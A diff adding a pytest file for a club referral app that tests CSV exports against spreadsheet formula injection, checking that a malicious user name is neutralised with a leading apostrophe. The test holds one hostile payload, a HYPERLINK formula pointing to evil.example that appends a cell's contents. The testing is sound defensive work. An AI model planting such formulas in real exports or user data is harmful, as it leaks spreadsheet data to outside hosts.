@@ -1,0 +1,63 @@
+"""Abuse: formula injection in CSV exports, sign-up and login limits, header injection through `next`."""
+from __future__ import annotations
+
+import csv
+import io
+from decimal import Decimal
+
+import pytest
+
+from clubapp.models import Referral, Role
+from tests import factories
+from tests.conftest import bearer, log_in
+
+EVIL = '=HYPERLINK("http://evil.example/?"&A1,"click")'
+
+
+@pytest.fixture
+def club(db):  # type: ignore[no-untyped-def]
+    club = factories.club_with(name="BNI Vichy Avenir")
+    evil = factories.MembershipFactory(club=club, user=factories.UserFactory(name=EVIL)).user
+    honest = factories.MembershipFactory(club=club, user=factories.UserFactory(name="Paul Toiture")).user
+    db.session.add(Referral(club=club, giver=evil, receiver=honest, prospect_name="-Prospect", description="x",
+                            temperature=3, kind="internal", status="won", amount=Decimal("900"), currency="EUR"))
+    db.session.commit()
+    return club
+
+
+@pytest.fixture
+def president(club):  # type: ignore[no-untyped-def]
+    return next(m.user for m in club.memberships if m.role is Role.PRESIDENT)
+
+
+def cells(response, delimiter: str = ",") -> list[str]:  # type: ignore[no-untyped-def]
+    assert response.status_code == 200, response.get_data(as_text=True)
+    assert response.data.startswith(b"\xef\xbb\xbf")
+    return [cell for row in csv.reader(io.StringIO(response.data.decode("utf-8-sig")), delimiter=delimiter)
+            for cell in row]
+
+
+def exports(app, club, president):  # type: ignore[no-untyped-def]
+    """Every CSV export, web and API, as an officer sees it."""
+    web = app.test_client()
+    assert log_in(web, president.email).status_code == 302
+    api = app.test_client()
+    headers = bearer(president)
+    return {
+        "palms web": web.get(f"/clubs/{club.id}/reports/palms.csv"),
+        "palms api": api.get(f"/api/v1/clubs/{club.id}/reports/palms", headers={**headers, "Accept": "text/csv"}),
+        "referrals web": web.get(f"/clubs/{club.id}/referrals.csv"),
+        "referrals api": api.get(f"/api/v1/clubs/{club.id}/referrals/export", headers=headers),
+    }
+
+
+def test_every_csv_export_neutralises_a_formula_name(app, club, president):
+    for name, response in exports(app, club, president).items():
+        found = cells(response)
+        assert EVIL not in found, name
+        assert "'" + EVIL in found, name
+        assert "Paul Toiture" in found, name
+
+
+def test_amounts_stay_numbers_in_the_referrals_export(app, club, president):
+    assert "900.00" in cells(exports(app, club, president)["referrals web"])
